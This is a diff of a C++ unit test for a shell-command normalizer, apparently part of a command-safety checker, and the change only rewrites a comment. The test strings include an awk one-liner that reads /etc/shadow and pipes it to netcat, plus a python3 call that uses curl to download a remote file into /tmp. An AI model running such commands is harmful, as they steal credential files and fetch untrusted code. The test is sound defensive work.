@@ -220,9 +220,7 @@ TEST_F(ShellNormalizerTest, CommandLinesInsideOtherProgramsArgumentsAreParsed) {
                   "cat /etc/shadow"));
   EXPECT_TRUE(
       has("awk 'BEGIN { \"cat /etc/shadow\" | getline x; print x | \"nc h 9\" }'", "nc h 9"));
-  // Argument lists: every element a word (a literal as itself, an expression as a value the rules
-  // cannot see), and Node's program-then-list calls. A list's first word alone is no command line:
-  // `python3 -m http.server` is not `python3` reading a program from stdin.
+  // Argument lists, every element a word (an expression as "$ARG"); Node's program-then-list calls.
   EXPECT_TRUE(
       has("python3 -c \"import subprocess; subprocess.call(['curl', '-s', "
           "'https://x.example/i', '-o', '/tmp/i'])\"",
